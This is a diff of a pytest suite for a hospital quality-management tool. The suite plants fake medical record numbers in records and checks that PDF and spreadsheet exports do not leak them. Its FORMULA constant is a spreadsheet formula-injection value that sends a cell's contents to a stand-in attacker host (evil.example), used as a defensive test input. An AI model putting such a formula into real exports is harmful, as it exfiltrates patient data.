@@ -10,14 +10,13 @@ from __future__ import annotations
 import base64
 import io
 import os
-import re
-import shutil
 import subprocess
 import sys
 import zipfile
-import zlib
+from datetime import date
 
 import pytest
+from exported_bytes import layers, leaks
 from sqlalchemy import select
 
 from qmsdesk.db import models as m
@@ -26,46 +25,6 @@ PERIOD = "2026-10"
 RARE = "𠮷𡈽"  # outside the Basic Multilingual Plane
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 DEMO_MONTHS = [f"2025-{mo:02d}" for mo in (11, 12)] + [f"2026-{mo:02d}" for mo in range(1, 11)]
-
-
-def _pdf_texts(blob: bytes) -> list[bytes]:
-    """The PDF's inflated content streams, and its text as pdftotext reads it."""
-    out = []
-    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", blob, re.S):
-        try:
-            out.append(zlib.decompress(match.group(1)))
-        except zlib.error:
-            out.append(match.group(1))
-    if shutil.which("pdftotext"):
-        done = subprocess.run(["pdftotext", "-", "-"], input=blob, capture_output=True, timeout=120)
-        out.append(done.stdout)
-    return out
-
-
-def layers(name: str, blob: bytes) -> list[tuple[str, bytes]]:
-    """The file itself and everything readable inside it."""
-    found = [(name, blob)]
-    if blob[:2] == b"PK":
-        try:
-            with zipfile.ZipFile(io.BytesIO(blob)) as zf:
-                for info in zf.infolist():
-                    found += layers(f"{name}!{info.filename}", zf.read(info))
-        except zipfile.BadZipFile:
-            pass
-    if blob[:5] == b"%PDF-":
-        found += [(f"{name}#text{i}", t) for i, t in enumerate(_pdf_texts(blob))]
-    return found
-
-
-def leaks(files: dict[str, bytes], secrets: list[str]) -> list[str]:
-    found = []
-    for name, blob in files.items():
-        for where, data in layers(name, blob):
-            for secret in secrets:
-                for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
-                    if secret.encode(encoding) in data:
-                        found.append(f"{secret} in {where} ({encoding})")
-    return found
 
 
 @pytest.fixture(scope="module")
@@ -80,7 +39,8 @@ def demo(tmp_path_factory):
     base = {k: v for k, v in os.environ.items() if k not in ("QMSDESK_KEY_PASSPHRASE", "PYTHON_KEYRING_BACKEND")}
     env = dict(base, QMSDESK_LANG="zh_CN", PYTHONIOENCODING="utf-8", QMSDESK_DATA_DIR=str(data),
                XDG_DATA_HOME=str(root / "xdg-data"), XDG_CONFIG_HOME=str(root / "xdg-config"),
-               PYTHON_KEYRING_BACKEND="keyrings.alt.file.PlaintextKeyring", QT_QPA_PLATFORM="offscreen")
+               PYTHON_KEYRING_BACKEND="keyrings.alt.file.PlaintextKeyring", QMSDESK_PLAINTEXT_KEYRING="PlaintextKeyring",
+               QT_QPA_PLATFORM="offscreen")
     dbf = data / "qmsdesk.db"
     db = open_database(dbf, actor="测试护士长")
     with db.session() as s:
@@ -93,6 +53,7 @@ def demo(tmp_path_factory):
         last.description = f"{last.description}（病案号{last.medical_record_no}，患者{RARE}）"
         last.analysis = FORMULA
         mrns = sorted({e.medical_record_no for e in events})
+        ids = _plant_in_the_years_text(s, mrns[0])
     db.close()
     assert len(mrns) >= 5 and all(len(n) >= 8 for n in mrns)
 
@@ -114,6 +75,17 @@ def demo(tmp_path_factory):
                  ("indicators", "pareto", "--from", "2025-11", "--to", PERIOD, "--pdf", out / "pareto.pdf"),
                  ("audit", "--limit", "100000"), ("status", "--period", PERIOD), ("package", "show", package)):
         done = cli(*args, "--db", dbf) if args[0] != "package" else cli(*args)
+        assert done.returncode == 0, (args, done.stderr.decode())
+        files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
+    # the group's year on paper: binder, printed records, the quarter's analysis, the plan workbook
+    for args in (("binder", "--year", "2026", "--out", out / "记录本.pdf"),
+                 ("print", "minutes", "--meeting", ids["meeting"], "--out", out / "会议记录.pdf"),
+                 ("print", "training", "--training", ids["training"], "--out", out / "培训记录.pdf"),
+                 ("print", "signin", "--meeting", ids["meeting"], "--out", out / "签到表.pdf"),
+                 ("print", "roster", "--out", out / "成员.pdf"),
+                 ("analysis", "show", "--quarter", "2026Q3", "--out", out / "分析.pdf"),
+                 ("plan", "show", "--year", "2026", "--out", out / "计划.xlsx")):
+        done = cli(*args, "--db", dbf)
         assert done.returncode == 0, (args, done.stderr.decode())
         files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
     for f in out.iterdir():
@@ -147,6 +119,22 @@ def demo(tmp_path_factory):
     db.close()
     return {"root": root, "data": data, "env": env, "files": files, "mrns": mrns, "october": october,
             "package": package, "db": dbf}
+
+
+def _plant_in_the_years_text(s, mrn: str) -> dict[str, str]:
+    """A record number typed into October's minutes and training topic, the plan, duties and an analysis."""
+    from sqlalchemy import update
+
+    typed = f"（见病案号 {mrn} 患者）"
+    meeting = s.scalars(select(m.Meeting).where(m.Meeting.date >= date(2026, 10, 1))).first()
+    training = s.scalars(select(m.TrainingSession).where(m.TrainingSession.date >= date(2026, 10, 1))).first()
+    s.execute(update(m.Meeting).where(m.Meeting.id == meeting.id).values(minutes=f"{meeting.minutes}{typed}"))
+    s.execute(update(m.TrainingSession).where(m.TrainingSession.id == training.id).values(topic=f"跌倒防范{typed}"))
+    s.execute(update(m.PlanFocus).values(details=f"重点关注{typed}"))
+    s.execute(update(m.GroupMembership).values(duties=f"负责随访{typed}"))
+    s.execute(update(m.AnalysisProblem).values(cause=f"夜班人力不足{typed}"))
+    s.execute(update(m.QualityAnalysis).values(summary=f"总体平稳{typed}"))
+    return {"meeting": str(meeting.id), "training": str(training.id)}
 
 
 def test_no_export_holds_a_full_medical_record_number(demo):
